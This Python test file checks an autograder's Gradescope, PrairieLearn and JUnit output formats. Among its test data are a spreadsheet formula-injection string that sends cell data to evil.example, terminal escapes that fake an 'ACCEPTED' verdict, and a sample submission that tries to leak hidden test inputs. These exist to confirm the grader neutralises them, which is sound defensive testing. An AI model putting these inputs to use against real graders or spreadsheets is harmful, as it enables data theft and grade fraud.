"""Every output format, on real reports of the grader (and as the command line writes them): valid
for the platform that reads it, and its numbers the report's.

The two results.json schemas are written from the platforms' published specifications: Gradescope's
autograder specification (gradescope-autograders.readthedocs.io, "Autograder Specifications") and
PrairieLearn's external grading documentation ("Grading results"). Field names, types and allowed
values are theirs; `required` lists what this grader promises on top. The JUnit file is parsed back
with the standard library and checked against the structure CI systems read (Ant's JUnit report).
"""

import dataclasses
import functools
import json
import math
import operator
import os
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
from functools import cache
from pathlib import Path

import jsonschema
import pytest

from grader.batch.schedule import Workers
from grader.formats import FORMATS, Options, render
from grader.formats.gradescope import to_gradescope
from grader.formats.junit import render_junit
from grader.formats.points import marks, rejected_as_a_whole
from grader.formats.prairielearn import to_prairielearn
from grader.results import NOT_RUN, PASSED, CaseResult, Report, Verdict, deciding_case
from grader.spec import ROOT, Scoring, load_spec, parse_spec
from tests.grading import SUBMISSIONS, run_grader

SEED = "formats-secret-seed"
FILES = {
    "correct": SUBMISSIONS / "accepted" / "plain_helpers.py",
    "wrong": SUBMISSIONS / "wrong_answer" / "causal_mask.py",
    "forbidden": SUBMISSIONS / "forbidden_api" / "plain_torch_softmax.py",
    "compile_error": SUBMISSIONS / "compile_error" / "syntax_error.py",
    "runtime_error": SUBMISSIONS / "runtime_error" / "crash_on_empty_mask.py",  # only the M = 0 cases raise
}
VERDICTS = {"correct": "accepted", "wrong": "wrong_answer", "forbidden": "forbidden_api", "compile_error": "compile_error", "runtime_error": "runtime_error"}
WHOLE = ("forbidden", "compile_error")  # rejected before any case is judged

# --- Gradescope: results.json as their autograder specification describes it --------------------------
VISIBILITY = {"enum": ["hidden", "after_due_date", "after_published", "visible"]}
TEXT_FORMAT = {"enum": ["text", "html", "simple_format", "md", "ansi"]}
GRADESCOPE_TEST = {
    "type": "object",
    "additionalProperties": False,
    "properties": {
        "score": {"type": "number"},
        "max_score": {"type": "number"},
        "status": {"enum": ["passed", "failed"]},
        "name": {"type": "string"},
        "name_format": TEXT_FORMAT,
        "number": {"type": "string"},
        "output": {"type": "string"},
        "output_format": TEXT_FORMAT,
        "tags": {"type": "array", "items": {"type": "string"}},
        "visibility": VISIBILITY,
        "extra_data": {"type": "object"},
    },
    # score and max_score only under per-case scoring (grader/formats/gradescope.py): checked below
    "required": ["name", "number", "status", "output", "tags", "visibility"],
}
GRADESCOPE_SCHEMA = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object",
    "additionalProperties": False,
    "properties": {
        "score": {"type": "number", "minimum": 0},
        "execution_time": {"type": "integer", "minimum": 0},
        "output": {"type": "string"},
        "output_format": TEXT_FORMAT,
        "test_output_format": TEXT_FORMAT,
        "test_name_format": TEXT_FORMAT,
        "visibility": VISIBILITY,
        "stdout_visibility": VISIBILITY,
        "extra_data": {"type": "object"},
        "tests": {"type": "array", "items": GRADESCOPE_TEST, "minItems": 1},
        "leaderboard": {
            "type": "array",
            "items": {
                "type": "object",
                "properties": {"name": {"type": "string"}, "value": {"type": ["number", "string"]}, "order": {"enum": ["asc", "desc"]}},
                "required": ["name", "value"],
            },
        },
    },
    "required": ["score", "execution_time", "output", "output_format", "visibility", "stdout_visibility", "tests", "extra_data"],
}

# --- PrairieLearn: the external grader's results.json ------------------------------------------------
IMAGES = {"type": "array", "items": {"anyOf": [{"type": "string"}, {"type": "object", "properties": {"url": {"type": "string"}, "label": {"type": "string"}}}]}}
PRAIRIELEARN_SCHEMA = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object",
    "properties": {
        "gradable": {"type": "boolean"},
        "score": {"type": "number", "minimum": 0, "maximum": 1},
        "message": {"type": "string"},
        "output": {"type": "string"},
        "images": IMAGES,
        "format_errors": {"anyOf": [{"type": "string"}, {"type": "array", "items": {"type": "string"}}]},
        "tests": {
            "type": "array",
            "minItems": 1,
            "items": {
                "type": "object",
                "properties": {
                    "name": {"type": "string"},
                    "description": {"type": "string"},
                    "points": {"type": "number", "minimum": 0},
                    "max_points": {"type": "number", "minimum": 0},
                    "message": {"type": "string"},
                    "output": {"type": "string"},
                    "images": IMAGES,
                },
                "required": ["name", "description", "message", "output"],  # points: per-case scoring only
            },
        },
        # Any other field is allowed by PrairieLearn; these are this grader's.
        "warnings": {"type": "array", "items": {"type": "string"}},
        "verdict": {"enum": [v.value for v in Verdict]},
    },
    "required": ["gradable", "score", "message", "output", "tests", "warnings", "verdict"],
    "if": {"properties": {"gradable": {"const": False}}},
    "then": {"required": ["format_errors"]},
}

# --- JUnit: elements and attributes of Ant's JUnit report, as CI systems read it ---------------------
JUNIT_ATTRIBUTES = {
    "testsuite": {"name", "tests", "failures", "errors", "skipped", "time", "timestamp", "hostname", "id", "package"},
    "properties": set(),
    "property": {"name", "value"},
    "testcase": {"name", "classname", "time", "assertions"},
    "failure": {"message", "type"},
    "error": {"message", "type"},
    "skipped": {"message"},
    "system-out": set(),
    "system-err": set(),
}
JUNIT_CHILDREN = {
    "testsuite": {"properties", "testcase", "system-out", "system-err"},
    "properties": {"property"},
    "testcase": {"failure", "error", "skipped", "system-out", "system-err"},
}


@cache
def graded(name: str, fmt: str, *extra: str) -> tuple[str, subprocess.CompletedProcess]:
    """The file written by `--format fmt --output FILE` for FILES[name], and the run (stdout: the text log)."""
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder) / "report"
        result = run_grader(str(FILES[name]), "--format", fmt, "--output", str(out), *extra, env={"MLM_GRADER_SEED": SEED})
        assert result.returncode in (0, 1), result.stderr
        return out.read_text(), result


@cache
def reports() -> dict[str, Report]:
    """Every file's report, graded once per test worker as a batch (tests/test_batch.py: a batch's
    reports are those of the command line), hints and warnings as the command line sets them."""
    spec = load_spec()
    return dict(Workers(spec, SEED, jobs=2).map(FILES.items()))


def rendered(name: str, fmt: str) -> str:
    """What `--format fmt` prints for FILES[name] with the default options."""
    return render(reports()[name], fmt, load_spec(), Options())


def run_without_seed(*args: str) -> subprocess.CompletedProcess:
    """The command line with no secret seed anywhere (none in the environment, whatever this one has)."""
    env = {k: v for k, v in os.environ.items() if k != "MLM_GRADER_SEED"}
    return subprocess.run([sys.executable, "-m", "grader", *args], cwd=ROOT, capture_output=True, text=True, timeout=300, env=env)


def report_of(name: str) -> dict:
    """The grader's own JSON report of the same file and seed."""
    return json.loads(rendered(name, "json"))


@pytest.mark.sandbox
def test_the_command_line_writes_the_format_and_logs_the_table():
    text, run = graded("wrong", "gradescope")
    results = json.loads(text)
    jsonschema.validate(results, GRADESCOPE_SCHEMA)
    assert run.returncode == 1 and results["extra_data"]["verdict"] == "wrong_answer"
    assert "Verdict:    WRONG_ANSWER" in run.stdout  # with --output, stdout carries the human report as a log
    alike = json.loads(rendered("wrong", "gradescope"))  # the same report but for its timing and the warm pool's note
    for timed in (results, alike):
        timed["execution_time"] = timed["extra_data"]["isolation"] = None
    assert results == alike


@pytest.mark.sandbox
@pytest.mark.parametrize("name", FILES)
def test_gradescope_results_follow_the_specification_and_add_up(name):
    results = json.loads(rendered(name, "gradescope"))
    jsonschema.validate(results, GRADESCOPE_SCHEMA)
    report = report_of(name)
    assert results["extra_data"]["verdict"] == report["verdict"] == VERDICTS[name]
    tests = results["tests"]
    assert results["extra_data"]["max_score"] == 100.0 and results["extra_data"]["scoring"] == "all_or_nothing"
    assert results["score"] == (100.0 if name == "correct" else 0.0)  # the spec's scoring is all or nothing
    assert results["stdout_visibility"] == "hidden" and results["output_format"] == "md"
    if name in WHOLE:
        assert report["message"].splitlines()[0] in results["output"]
        assert len(tests) == 1 and tests[0]["status"] == "failed" and tests[0]["output"] == report["message"]
        assert (tests[0]["score"], tests[0]["max_score"]) == (0.0, 100.0)  # nothing earned of the whole: true
        return
    assert not [t for t in tests if "score" in t or "max_score" in t]  # all or nothing: no case earns points of its own
    assert [t["name"] for t in tests] == [c["name"] for c in report["cases"]]
    assert [t["number"] for t in tests] == [str(i) for i in range(1, len(tests) + 1)]
    for test, case in zip(tests, report["cases"], strict=True):
        assert test["status"] == ("passed" if case["status"] == "passed" else "failed")
        assert test["tags"] == list(dict.fromkeys([case["family"], case["dtype"]]))  # unique, family first
        assert test["visibility"] == ("visible" if case["visibility"] == "visible" else "after_published")
        if case["status"] != "passed":
            assert test["output"] == case["output"]


@pytest.mark.sandbox
@pytest.mark.parametrize("name", FILES)
def test_prairielearn_results_follow_the_specification_and_add_up(name):
    results = json.loads(rendered(name, "prairielearn"))
    jsonschema.validate(results, PRAIRIELEARN_SCHEMA)
    report = report_of(name)
    assert results["verdict"] == report["verdict"]
    assert results["gradable"] is (name != "compile_error")  # no attempt used for a file that cannot be graded
    assert results["score"] == (1.0 if name == "correct" else 0.0)  # the spec's scoring is all or nothing
    if name in WHOLE:
        assert report["message"] in results["output"]
        assert len(results["tests"]) == 1 and (results["tests"][0]["points"], results["tests"][0]["max_points"]) == (0.0, 100.0)
    else:
        assert [t["name"] for t in results["tests"]] == [c["name"] for c in report["cases"]]
        assert not [t for t in results["tests"] if "points" in t or "max_points" in t]  # no case earns points of its own


def check_junit_structure(element: ET.Element) -> None:
    assert set(element.attrib) <= JUNIT_ATTRIBUTES[element.tag], element.tag
    assert {child.tag for child in element} <= JUNIT_CHILDREN.get(element.tag, set()), element.tag
    for child in element:
        check_junit_structure(child)


@pytest.mark.sandbox
@pytest.mark.parametrize("name", FILES)
def test_junit_parses_back_with_one_testcase_per_case(name):
    suite = ET.fromstring(rendered(name, "junit").encode())
    report = report_of(name)
    assert suite.tag == "testsuite" and suite.get("name") == str(FILES[name])
    check_junit_structure(suite)
    cases = suite.findall("testcase")
    outcomes = [[child.tag for child in case if child.tag in ("failure", "error", "skipped")] for case in cases]
    assert all(len(found) <= 1 for found in outcomes)
    for kind, attribute in (("failure", "failures"), ("error", "errors"), ("skipped", "skipped")):
        assert int(suite.get(attribute)) == sum(found == [kind] for found in outcomes)
    assert int(suite.get("tests")) == len(cases)
    properties = {p.get("name"): p.get("value") for p in suite.find("properties")}
    assert properties["verdict"] == report["verdict"] and properties["seed_id"] == report["seed_id"]
    if name in WHOLE:
        assert len(cases) == 1 and outcomes == [["failure" if name == "forbidden" else "error"]]
        assert cases[0].find(outcomes[0][0]).text == report["message"]
        return
    assert [(c.get("name"), c.get("classname")) for c in cases] == [(c["name"], c["family"]) for c in report["cases"]]
    for found, case in zip(outcomes, report["cases"], strict=True):
        expected = {"passed": [], "wrong_answer": ["failure"], "runtime_error": ["error"]}[case["status"]]
        assert found == expected, case["name"]
    if name == "runtime_error":
        assert any(found == ["error"] for found in outcomes) and any(found == [] for found in outcomes)
    # The diagnosis is about the whole submission: once, as properties of the suite, not in each failure.
    assert [p.get("value") for p in suite.find("properties") if p.get("name") == "diagnosis"] == report["diagnosis"]
    assert not [f for f in suite.iter("failure") for sentence in report["diagnosis"] if sentence in (f.text or "")]


@pytest.mark.sandbox
def test_the_json_format_is_the_json_flag_and_carries_warnings():
    text, _ = graded("compile_error", "json")
    flag = run_grader(str(FILES["compile_error"]), "--json", env={"MLM_GRADER_SEED": SEED})
    assert dict(json.loads(flag.stdout), seconds=None) == dict(json.loads(text), seconds=None)
    assert json.loads(text)["warnings"] == []
    both = run_grader(str(FILES["compile_error"]), "--json", "--format", "junit")
    assert both.returncode == 2 and "--json means --format json" in both.stderr and both.stdout == ""


@pytest.mark.sandbox
def test_the_fixed_local_seed_is_said_in_every_machine_readable_format_and_once_on_stderr():
    for fmt in ("json", "junit", "gradescope", "prairielearn"):
        result = run_without_seed(str(FILES["compile_error"]), "--format", fmt, "--allow-default-seed")
        assert result.returncode == 1, result.stderr
        assert result.stderr.count("fixed local seed") == 1, result.stderr
        if fmt == "junit":
            warnings = [p.get("value") for p in ET.fromstring(result.stdout).iter("property") if p.get("name") == "warning"]
        else:
            parsed = json.loads(result.stdout)
            warnings = parsed["extra_data"]["warnings"] if fmt == "gradescope" else parsed["warnings"]
        assert len(warnings) == 1 and "fixed local seed" in warnings[0] and "MLM_GRADER_SEED" in warnings[0], fmt
    secret = run_grader(str(FILES["compile_error"]), "--format", "junit", "--seed", "some-secret")
    assert "fixed local seed" not in secret.stdout + secret.stderr


@pytest.mark.sandbox
@pytest.mark.parametrize("fmt", ["gradescope", "prairielearn"])
def test_platform_formats_refuse_the_fixed_local_seed_unless_allowed(fmt, tmp_path):
    out = tmp_path / "results.json"
    result = run_without_seed(str(FILES["correct"]), "--format", fmt, "--output", str(out))
    assert result.returncode == 2 and not out.exists() and result.stdout == ""
    assert "needs a secret seed" in result.stderr and "--allow-default-seed" in result.stderr and "MLM_GRADER_SEED" in result.stderr


@pytest.mark.sandbox
def test_per_case_scoring_with_family_weights_on_a_real_report(tmp_path):
    text = (ROOT / "problem" / "mlm-forward-tied" / "problem.toml").read_text()
    text = text.replace('mode = "all_or_nothing"', 'mode = "per_case"').replace("[scoring.weights]\n", "[scoring.weights]\nedge_shapes = 3\n")
    spec = tmp_path / "spec.toml"
    spec.write_text(text)
    results = json.loads(graded("runtime_error", "gradescope", "--spec", str(spec), "--points", "40", "--hidden-visibility", "hidden")[0])
    jsonschema.validate(results, GRADESCOPE_SCHEMA)
    cases = json.loads(graded("runtime_error", "json")[0])["cases"]
    weights = [3 if c["family"] == "edge_shapes" else 1 for c in cases]
    expected = sum(40 * w / sum(weights) for w, c in zip(weights, cases, strict=True) if c["status"] == "passed")
    assert 0 < expected < 40 and math.isclose(results["score"], expected, abs_tol=0.01 * len(cases))
    assert math.isclose(sum(t["score"] for t in results["tests"]), results["score"], abs_tol=1e-9)
    for test, weight in zip(results["tests"], weights, strict=True):
        assert math.isclose(test["max_score"], 40 * weight / sum(weights), abs_tol=0.01)
    assert {t["visibility"] for t in results["tests"]} == {"visible", "hidden"}


@pytest.mark.sandbox
def test_compile_errors_can_count_as_attempts_on_prairielearn():
    results = json.loads(graded("compile_error", "prairielearn", "--gradable-compile-errors")[0])
    jsonschema.validate(results, PRAIRIELEARN_SCHEMA)
    assert results["gradable"] is True and results["score"] == 0.0 and "format_errors" not in results


@pytest.mark.sandbox
def test_output_file_problems_are_usage_errors(tmp_path):
    result = run_grader(str(FILES["compile_error"]), "--format", "junit", "--output", str(tmp_path / "no" / "such" / "dir.xml"))
    assert result.returncode == 2 and "cannot write the report to" in result.stderr
    for points in ("0", "-5", "nan", "inf", "lots"):
        result = run_grader(str(FILES["compile_error"]), "--points", points)
        assert result.returncode == 2 and "--points" in result.stderr, points


# --- The formats as functions of a Report: cases the corpus cannot produce on demand ---------------------


def case(name: str, family: str, status: str, public: bool = False, seconds: float | None = 0.01, message: str = "") -> CaseResult:
    return CaseResult(name, family, "float32", public, "N=1 T=2", status=status, message=message, seconds=seconds)


def test_shares_are_hundredths_that_add_up_exactly():
    report = Report(Verdict.ACCEPTED, "all passed", "s.py", "id", "process", cases=[case(f"c{i}", "basic", PASSED) for i in range(7)])
    result = marks(report, Scoring(), 100)
    assert sum(round(x * 100) for x in result.available) == 10000 and result.total == 100.0
    assert all(round(x * 100) == x * 100 for x in result.available[:-1]) and max(result.available) - min(result.available) <= 0.011
    assert abs(result.available[-1] * 100 - round(result.available[-1] * 100)) < 1e-9  # the last: hundredths but for the sum's rounding


def in_order(values: list[float]) -> float:
    """values added as floats one after the other, as Gradescope, PrairieLearn or a spreadsheet adds a column."""
    return functools.reduce(operator.add, values, 0.0)


@pytest.mark.parametrize("points", [100.0, 10.0, 7.5, 3.33, 1.0, 0.3, 99.99, 12.34])
@pytest.mark.parametrize("count", [1, 2, 3, 7, 30, 46, 47])
def test_the_tests_maxima_add_up_to_exactly_the_points(points, count):
    # 10 points over 46 cases added up to 10.000000000000005 before the last test took the rounding.
    families = ["basic", "edge_shapes", "float64"]
    cases = [case(f"c{i}", families[i % 3], PASSED if i % 2 else Verdict.WRONG_ANSWER) for i in range(count)]
    report = Report(Verdict.WRONG_ANSWER, "case c0 failed", "s.py", "id", "process", cases=cases)
    for weights in ({}, {"edge_shapes": 3.0, "float64": 0.5}):
        scoring = Scoring("per_case", weights)
        gradescope = to_gradescope(report, scoring, points)
        maxima = [t["max_score"] for t in gradescope["tests"]]
        assert in_order(maxima) == points == gradescope["extra_data"]["max_score"], maxima
        assert all(abs(m * 100 - round(m * 100)) < 1e-6 for m in maxima)  # each is its hundredths of a point, shown as such
        for test in gradescope["tests"]:  # a passed case earns its whole maximum, a failed one nothing
            assert test["score"] == (test["max_score"] if test["status"] == "passed" else 0.0)
        prairielearn = to_prairielearn(report, scoring, points)
        assert in_order([t["max_points"] for t in prairielearn["tests"]]) == points
        assert [t["max_points"] for t in prairielearn["tests"]] == maxima
        assert prairielearn["score"] == gradescope["score"] / points


def test_under_all_or_nothing_a_passed_case_shows_no_points_it_did_not_lose():
    cases = [case("ok", "basic", PASSED, public=True), case("bad", "basic", Verdict.WRONG_ANSWER, public=True, message="values differ")]
    wrong = Report(Verdict.WRONG_ANSWER, "case bad failed (1 of 2 cases passed): values differ", "s.py", "id", "process", cases=cases)
    right = Report(Verdict.ACCEPTED, "all 2 cases passed", "s.py", "id", "process", cases=[case(n, "basic", PASSED) for n in ("a", "b")])
    for report, score in ((wrong, 0.0), (right, 10.0)):
        gradescope = to_gradescope(report, Scoring(), 10)
        jsonschema.validate(gradescope, GRADESCOPE_SCHEMA)
        assert gradescope["score"] == score  # the top-level score is the points (the specification lets it stand alone)
        assert not [t for t in gradescope["tests"] if "score" in t or "max_score" in t]  # never "0.0 / 5.0" beside "passed"
        assert f"{score:g} of 10 points" in gradescope["output"]
        prairielearn = to_prairielearn(report, Scoring(), 10)
        jsonschema.validate(prairielearn, PRAIRIELEARN_SCHEMA)
        assert prairielearn["score"] == score / 10 and not [t for t in prairielearn["tests"] if "points" in t or "max_points" in t]
    assert [t["status"] for t in to_gradescope(wrong, Scoring(), 10)["tests"]] == ["passed", "failed"]
    assert "(all or nothing: every case must pass)" in to_gradescope(wrong, Scoring(), 10)["output"]
    assert [t["message"] for t in to_prairielearn(wrong, Scoring(), 10)["tests"]] == ["passed", "Wrong answer"]


SECRET_NAME = "hidden_case_named_after_its_inputs"
SECRET_MESSAGE = "raised an exception (the message of a hidden case is not shown)"


def hidden_decides() -> Report:
    """A judged run whose verdict a hidden case decided: a public case passed, the hidden one raised."""
    cases = [case("public_one", "basic", PASSED, public=True), case(SECRET_NAME, "basic", Verdict.RUNTIME_ERROR, message=SECRET_MESSAGE)]
    cases[1].check = "exception"
    message = f"case {SECRET_NAME} failed (1 of 2 cases passed): {SECRET_MESSAGE}"
    return Report(Verdict.RUNTIME_ERROR, message, "s.py", "id", "process", cases=cases)


@pytest.mark.parametrize("visibility", ["hidden", "after_due_date", "after_published"])
def test_the_always_visible_output_does_not_name_a_hidden_case_before_its_test_is_shown(visibility):
    gradescope = to_gradescope(hidden_decides(), Scoring(), 10, visibility)
    assert gradescope["visibility"] == "visible"  # the top level: every student sees it at once
    assert SECRET_NAME not in gradescope["output"] and "raised an exception" not in gradescope["output"]
    assert "1 of 2 cases passed; the first failing case is hidden" in gradescope["output"]
    when = {"hidden": "staff only", "after_due_date": "after the due date", "after_published": "once the grades are published"}
    assert when[visibility] in gradescope["output"]
    hidden_test = gradescope["tests"][1]  # what went wrong is in the hidden case's own test, shown when its visibility says
    assert (hidden_test["name"], hidden_test["output"], hidden_test["visibility"]) == (SECRET_NAME, SECRET_MESSAGE, visibility)
    prairielearn = to_prairielearn(hidden_decides(), Scoring(), 10)
    for text in (prairielearn["message"], prairielearn["output"]):
        assert SECRET_NAME not in text and "raised an exception" not in text
    assert "the first failing case is hidden: its test below says what went wrong" in prairielearn["output"]
    assert prairielearn["tests"][1]["output"] == SECRET_MESSAGE


def test_the_visible_output_names_a_public_failure_and_a_hidden_one_visible_at_once():
    public_first = hidden_decides()
    public_first.cases[0].status, public_first.cases[0].message = Verdict.WRONG_ANSWER, "values differ at [0, 1]"
    public_first.message = "case public_one failed (0 of 2 cases passed): values differ at [0, 1]"
    assert public_first.message in to_gradescope(public_first, Scoring(), 10)["output"]  # a public case is the student's to read
    assert public_first.message in to_prairielearn(public_first, Scoring(), 10)["output"]
    assert hidden_decides().message in to_gradescope(hidden_decides(), Scoring(), 10, "visible")["output"]  # its test is shown at once too


@pytest.mark.sandbox
@pytest.mark.parametrize("name", FILES)
def test_no_real_report_names_its_deciding_hidden_case_in_the_visible_output(name):
    report = reports()[name]
    first = deciding_case(report.cases) if not rejected_as_a_whole(report) else None
    gradescope, prairielearn = json.loads(rendered(name, "gradescope")), json.loads(rendered(name, "prairielearn"))
    if first is None or first.public:
        assert report.message.splitlines()[0] in gradescope["output"] and report.message in prairielearn["output"]
    else:
        for text in (gradescope["output"], prairielearn["message"], prairielearn["output"]):
            assert first.name not in text and "the first failing case is hidden" in gradescope["output"]


def test_a_failed_start_is_one_explanatory_entry_scoring_zero():
    report = Report(Verdict.INVALID_SUBMISSION, "no mlm_forward_tied in the file", "s.py", "id", "process")
    report.cases = [case(f"c{i}", "basic", Verdict.INVALID_SUBMISSION, seconds=None, message="not run") for i in range(3)]
    assert rejected_as_a_whole(report)
    for mode in ("all_or_nothing", "per_case"):
        results = to_gradescope(report, Scoring(mode), 10)
        assert results["score"] == 0 and len(results["tests"]) == 1 and results["tests"][0]["output"] == report.message
    assert to_prairielearn(report, Scoring())["gradable"] is False
    assert to_prairielearn(report, Scoring(), gradable_compile_errors=True)["gradable"] is True


def test_a_run_cut_short_keeps_its_cases_and_per_case_points():
    cases = [case("a", "basic", PASSED), case("b", "basic", Verdict.TIME_LIMIT_EXCEEDED, seconds=None), case("c", "basic", NOT_RUN, seconds=None)]
    report = Report(Verdict.TIME_LIMIT_EXCEEDED, "case b timed out", "s.py", "id", "process", cases=cases)
    assert not rejected_as_a_whole(report)
    results = to_gradescope(report, Scoring("per_case"), 3)
    assert [t["score"] for t in results["tests"]] == [1.0, 0.0, 0.0] and results["score"] == 1.0
    assert "not run" in results["tests"][2]["output"]
    suite = ET.fromstring(render_junit(report))
    assert [[child.tag for child in c] for c in suite.iter("testcase")] == [[], ["error"], ["skipped"]]


def test_a_grader_fault_is_for_staff_and_costs_the_student_nothing():
    report = Report(Verdict.GRADER_ERROR, "internal error of the grader:\nTraceback ... KeyError", "s.py", "", "process")
    gradescope = to_gradescope(report, Scoring())
    jsonschema.validate(gradescope, GRADESCOPE_SCHEMA)
    assert "Traceback" not in gradescope["output"] and "not the submission's fault" in gradescope["output"]
    assert [t["visibility"] for t in gradescope["tests"]] == ["hidden"] and "Traceback" in gradescope["tests"][0]["output"]
    prairielearn = to_prairielearn(report, Scoring())
    jsonschema.validate(prairielearn, PRAIRIELEARN_SCHEMA)
    assert prairielearn["gradable"] is False and "Traceback" not in json.dumps(prairielearn)


def test_junit_survives_anything_a_submission_prints():
    failing = case("a", "basic", Verdict.WRONG_ANSWER, message="bad \x00 \x1b[31m")
    report = Report(Verdict.WRONG_ANSWER, "case a failed", "s\x01.py", "id", "process", cases=[failing])
    report.stdout = "nul \x00 bell \x07 escape \x1b[0m ]]> <tag> & \ud800 done"
    suite = ET.fromstring(render_junit(report))
    assert "done" in suite.find("system-out").text and "]]> <tag> &" in suite.find("system-out").text
    assert suite.find("testcase/failure").get("type") == "wrong_answer"


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_renders_every_verdict(fmt):
    spec = load_spec()
    for verdict in Verdict:
        report = Report(verdict, f"{verdict} happened", "s.py", "id", "process", cases=[case("a", "basic", PASSED, public=True)])
        assert render(report, fmt, spec, Options())


@pytest.mark.parametrize(
    "table, why",
    [
        ({"mode": "sometimes"}, "mode must be one of"),
        ({"weights": {"no_such_family": 2}}, "not a family"),
        ({"weights": {"basic": 0}}, "positive number"),
        ({"weights": {"basic": True}}, "positive number"),
        ({"mode": "per_case", "bonus": 1}, "unknown keys"),
    ],
)
def test_a_wrong_scoring_table_is_refused_with_the_reason(table, why):
    import tomllib

    data = tomllib.loads((ROOT / "problem" / "mlm-forward-tied" / "problem.toml").read_text())
    with pytest.raises(ValueError, match=why):
        parse_spec(data | {"scoring": table})


# --- Text a submission controls is inert in every format ---------------------------------------------

# What no report may carry raw: lone surrogates (no UTF-8 file can hold them), C0 controls but tab and
# newline, DEL, C1 controls, bidirectional overrides and isolates, and the noncharacters XML forbids.
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069\ufffe\uffff]")
OVERWRITE = "\x1b[2K\rVerdict:    ACCEPTED"  # on a terminal: erase the line, back to its start, write over it
NASTY = f"lone \ud800 and \udfff, NUL \x00, bell \x07, DEL \x7f, C1 \x9b2K, title \x1b]0;owned\x07, {OVERWRITE}\x1b[1A{OVERWRITE}\r\n, bidi \u202e"
FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"grade")'


def nasty_report() -> Report:
    """A report whose every text a submission could have chosen holds what would break a format."""
    public = case("public_nasty", "basic", Verdict.RUNTIME_ERROR, public=True, message="raised during the call:\n" + NASTY)
    public.check = "exception"
    hidden = case("hidden_nasty", "basic", Verdict.RUNTIME_ERROR, message="raised an exception (the message of a hidden case is not shown)")
    hidden.check, hidden.staff_message = "exception", "raised during the call:\n" + NASTY  # what staff alone read
    cases = [public, hidden, case("wrong", "basic", Verdict.WRONG_ANSWER, message=NASTY), case("never", "basic", NOT_RUN, seconds=None)]
    message = f"case public_nasty failed (0 of 4 cases passed): raised during the call:\n{NASTY}"
    report = Report(Verdict.RUNTIME_ERROR, message, f"{FORMULA_ID}{NASTY}.py", "id", "process", cases=cases, stdout=NASTY, stderr=NASTY)
    report.hints, report.diagnosis, report.warnings = [NASTY], [NASTY], [NASTY]
    report.staff_stdout, report.staff_stderr = NASTY + NASTY, NASTY + NASTY
    return report


def strings_of(data: object) -> list[str]:
    """Every string in parsed JSON, keys included."""
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [*data.keys(), *(s for value in data.values() for s in strings_of(value))]
    if isinstance(data, list):
        return [s for item in data for s in strings_of(item)]
    return []


@pytest.mark.parametrize("staff", [False, True], ids=["candidate", "staff"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_text_a_submission_controls_is_inert_in_every_format(fmt, staff):
    shown = render(nasty_report(), fmt, load_spec(), Options(verbose=True, staff=staff))
    shown.encode("utf-8")  # a lone surrogate would make printing or writing the report fail
    assert not RAW_CONTROLS.search(shown), repr(RAW_CONTROLS.search(shown))
    if fmt == "text":
        assert [line for line in shown.splitlines() if line.startswith("Verdict:")] == ["Verdict:    RUNTIME_ERROR"]
        assert "\\x1b[2K\\x0dVerdict:    ACCEPTED\\x1b[1A" in shown and "NUL \\x00" in shown  # shown, as escapes
        return
    if fmt == "junit":
        suite = ET.fromstring(shown.encode())
        check_junit_structure(suite)
        texts = [t for element in suite.iter() for t in (element.text or "", *element.attrib.values())]
        assert any("\\x1b[2K\\x0dVerdict:    ACCEPTED" in t for t in texts)
    else:
        data = json.loads(shown)
        if fmt in ("gradescope", "prairielearn"):
            jsonschema.validate(data, GRADESCOPE_SCHEMA if fmt == "gradescope" else PRAIRIELEARN_SCHEMA)
        texts = strings_of(data)
        assert any("\\x1b[2K\\x0dVerdict:    ACCEPTED" in t for t in texts)
    assert not [t for t in texts if RAW_CONTROLS.search(t)]  # nor once parsed, where a platform shows it


# --- What the submission raised or printed during a hidden case is the staff's alone ------------------

LEAKER = '''"""Tries to read the hidden cases back from its report: every call raises an exception that
spells out its inputs, and prints the call's number and its inputs first."""

CALLS = []


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    CALLS.append(1)
    print("PRINTED call", len(CALLS), "LEAK", input_ids.flatten().tolist())
    raise ValueError("LEAK " + str(input_ids.flatten().tolist()) + " " + str(w_emb.flatten().tolist()))
'''


@cache
def leaker_report() -> Report:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "leaker.py"
        path.write_text(LEAKER)
        [(_, report)] = Workers(load_spec(), SEED, jobs=1).map([("leaker", path)])
    return report


def hidden_inputs() -> list[str]:
    """How the leaker spells each hidden case's inputs (long enough to be told apart)."""
    from grader.cases import make_cases

    spelled = [str(case.inputs["input_ids"].flatten().tolist()) for case in make_cases(load_spec(), SEED) if not case.public]
    return [text for text in spelled if len(text) > 12]


@pytest.mark.sandbox
@pytest.mark.parametrize("fmt", FORMATS)
def test_what_the_submission_raised_or_printed_during_a_hidden_case_is_withheld_from_the_candidate(fmt):
    report = leaker_report()
    assert report.verdict == "runtime_error" and [c.status for c in report.cases] == ["runtime_error"] * len(report.cases)
    shown = render(report, fmt, load_spec(), Options(verbose=True))
    assert hidden_inputs() and not [text for text in hidden_inputs() if text in shown]  # not one hidden input, bit for bit
    publics = [c for c in report.cases if c.public]
    for c in report.cases:
        if c.public:  # a public case keeps its whole message
            assert "LEAK [" in c.message and "ValueError" in c.message
        else:
            assert "LEAK" not in c.message and "the message of a hidden case is not shown" in c.message, c.message
    # What it printed during the public cases is shown; from the first hidden case on, nothing.
    assert f"PRINTED call {len(publics)} LEAK" in report.stdout and f"PRINTED call {len(publics) + 1} " not in report.stdout
    assert "printed once the hidden cases began is not shown" in report.stdout
    if fmt in ("json", "junit"):  # the platforms' results.json hold no output; the text report its beginning and end
        assert f"PRINTED call {len(publics)} LEAK" in shown


@pytest.mark.sandbox
def test_staff_see_what_was_withheld_where_they_look():
    report, spec = leaker_report(), load_spec()
    staff = json.loads(render(report, "json", spec, Options(staff=True)))
    withheld = staff["staff_only"]
    assert [name for name in withheld["cases"]] == [c.name for c in report.cases if not c.public]
    assert all("LEAK [" in message for message in withheld["cases"].values())
    assert f"PRINTED call {len(report.cases)} " in withheld["stdout"]
    student = json.loads(render(report, "json", spec, Options()))
    assert "staff_only" not in student
